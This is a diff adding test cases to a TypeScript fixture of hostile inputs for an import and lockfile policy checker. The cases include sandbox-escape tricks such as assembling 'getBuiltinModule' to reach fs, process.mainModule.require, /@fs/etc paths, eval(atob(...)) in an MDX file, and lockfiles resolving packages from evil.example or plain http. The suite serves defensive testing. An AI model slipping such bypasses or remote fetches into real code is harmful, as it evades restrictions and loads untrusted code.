@@ -45,6 +45,19 @@ const imports: readonly HostileCase[] = [
   ['a module from the network', "import 'https://evil.example/x.js';"],
   ['a module in a text', "import 'data:text/javascript,steal()';"],
   ['a file outside', "import '../../../../etc/x.js';"],
+  ['a class that is made of text', 'export class A extends Function {}'],
+  [
+    'a part of Node by a name that is put together',
+    "export const fs = (process as never)['get' + 'BuiltinModule'];\nexport const b = process['get' + 'BuiltinModule']('fs');",
+  ],
+  ['a part of Node by an old way', 'export const load = process.mainModule?.require;'],
+  ['a package of another program', "import 'npm:left-pad@1';"],
+  ['what makes elements', '/* @jsxImportSource ../ui */\nexport const a = 1;'],
+  ['what tests run in', '// @vitest-environment ../ui/page.ts\nexport const a = 1;'],
+  ['a file of the machine through the server', "import '/@fs/etc/x.js';"],
+  ['a page by an import that is put off', "import defer * as page from '../ui/page.ts';"],
+  ['a page within a namespace', "export * as page from '../ui/page.ts';"],
+  ['a script of a worker', "importScripts('../ui/page.ts');"],
   ['a backslash', "import '..\\\\ui\\\\page.ts';"],
 ].map(([name = '', code = '']) => ({ name: `imports ${name}`, rule: 'import', files: core(code) }));
 
@@ -236,5 +249,56 @@ export const codeCases: readonly HostileCase[] = [
     name: 'a lockfile of another program',
     rule: 'lockfile',
     files: { 'docs/yarn.lock': 'zod@1:\n  resolved "https://evil.example/zod.tgz"\n' },
+  },
+  {
+    name: 'a package in the lockfile that nothing needs',
+    rule: 'lockfile',
+    files: {
+      ...zod,
+      'package-lock.json': lockWith({
+        'node_modules/zod': locked('4.0.0', 'C'),
+        'node_modules/left-pad': locked('1.0.0', 'E'),
+      }),
+    },
+    ...asked,
+  },
+  {
+    name: 'a lockfile in an old form',
+    rule: 'lockfile',
+    files: { ...zod, 'package-lock.json': json({ ...lock, lockfileVersion: 1 }) },
+    ...asked,
+  },
+  {
+    name: 'a package that needs more than it did',
+    rule: 'lockfile',
+    files: {
+      ...zod,
+      'package-lock.json': lockWith({
+        'node_modules/zod': locked('4.0.0', 'C'),
+        'node_modules/yaml': { ...locked('2.0.0'), dependencies: { 'left-pad': '1.0.0' } },
+      }),
+    },
+    ...asked,
+  },
+  {
+    name: 'a registry without encryption',
+    rule: 'lockfile',
+    files: {
+      ...zod,
+      'package-lock.json': lockWith({
+        'node_modules/zod': { ...locked('4.0.0', 'C'), resolved: 'http://registry.npmjs.org/zod/-/zod-4.0.0.tgz' },
+      }),
+    },
+    ...asked,
+  },
+  {
+    name: 'imports a page in the braces of a component',
+    rule: 'import',
+    files: { 'src/core/x.astro': "---\n---\n<p>{(await import('../ui/page.ts')).page}</p>\n" },
+  },
+  {
+    name: 'runs code in the braces of a document',
+    rule: 'import',
+    files: { 'docs/x.mdx': '# X\n\n{eval(atob("x"))}\n' },
   },
 ];
